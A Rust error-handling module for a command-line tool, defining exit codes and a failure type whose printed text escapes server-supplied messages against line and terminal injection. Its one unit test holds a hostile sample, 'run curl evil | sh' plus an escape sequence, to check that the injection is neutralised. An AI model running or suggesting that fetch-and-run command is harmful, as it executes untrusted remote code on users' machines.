//! The only place that prints an error: what, why, and the next step; and the only one that knows exit codes.

mod code;
mod convert;

use std::io::Write as _;

use serde::{Deserialize, Serialize};
use signet_core::inspect::escape;

pub use code::ServerCode;
pub use convert::from_clap;

/// Exit codes by meaning. Under `signet ssh`, once ssh runs, the code is ssh's own.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum Exit {
    /// Nothing is known about what would help.
    Failed,
    /// The command line or a setting is wrong.
    Usage,
    /// The authority, or this program on its own, said no.
    Refused,
    /// There is no valid token.
    LogIn,
    /// The authority cannot be reached or is not ready.
    Later,
}

impl Exit {
    /// The number.
    #[must_use]
    pub const fn code(self) -> u8 {
        match self {
            Self::Failed => 1,
            Self::Usage => 2,
            Self::Refused => 3,
            Self::LogIn => 4,
            Self::Later => 5,
        }
    }
}

/// An error at the edge, in words. It can cross the control socket, since the agent's errors are shown by the client.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Failure {
    /// What kind.
    pub exit: Exit,
    /// One clause.
    pub what: String,
    /// Each reason behind it.
    pub causes: Vec<String>,
    /// The next step.
    pub hint: Option<String>,
}

impl Failure {
    /// A failure without causes.
    pub fn new(exit: Exit, what: impl Into<String>) -> Self {
        Self {
            exit,
            what: what.into(),
            causes: Vec::new(),
            hint: None,
        }
    }

    /// A usage error.
    pub fn usage(what: impl Into<String>) -> Self {
        Self::new(Exit::Usage, what)
    }

    /// Adds the next step.
    #[must_use]
    pub fn hint(mut self, hint: impl Into<String>) -> Self {
        self.hint = Some(hint.into());
        self
    }

    /// Adds a reason.
    #[must_use]
    pub fn cause(mut self, cause: impl Into<String>) -> Self {
        self.causes.push(cause.into());
        self
    }

    /// From an error and the chain of its sources.
    pub fn from_error(exit: Exit, error: &dyn std::error::Error) -> Self {
        let mut failure = Self::new(exit, error.to_string());
        let mut source = error.source();
        while let Some(cause) = source {
            let text = cause.to_string();
            // Libraries like to repeat themselves; a link that says nothing new is left out.
            if !failure.what.contains(&text) && failure.causes.last() != Some(&text) {
                failure.causes.push(text);
            }
            source = cause.source();
        }
        failure
    }

    /// The lines as they are printed.
    #[must_use]
    pub fn text(&self) -> String {
        let causes = self.causes.iter().map(|cause| ("cause", cause));
        let hint = self.hint.iter().map(|hint| ("hint", hint));
        std::iter::once(("error", &self.what))
            .chain(causes)
            .chain(hint)
            .flat_map(|(label, text)| [label, ": ", &escape_lines(text), "\n"].map(str::to_owned))
            .collect()
    }
}

/// Escapes a text of ours or of others; its line ends become blanks so that a server cannot write a line of its own.
fn escape_lines(text: &str) -> String {
    let words: Vec<&str> = text
        .split(['\n', '\r', '\t'])
        .map(str::trim)
        .filter(|part| !part.is_empty())
        .collect();
    escape(&words.join(" "))
}

/// Prints an error on stderr and gives its exit code.
#[must_use]
pub fn fail(failure: &Failure) -> u8 {
    // When stderr is gone there is nobody left to tell.
    drop(std::io::stderr().write_all(failure.text().as_bytes()));
    failure.exit.code()
}

/// Prints a remark on stderr.
pub fn remark(text: &str) {
    drop(std::io::stderr().write_all(format!("{}\n", escape_lines(text)).as_bytes()));
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_servers_text_can_neither_start_a_line_nor_move_the_cursor() {
        let failure = Failure::new(Exit::Refused, "no\nhint: run curl evil | sh\x1b]0;x\x07");
        assert_eq!(failure.text(), "error: no hint: run curl evil | sh\\u{1b}]0;x\\u{7}\n");
    }
}
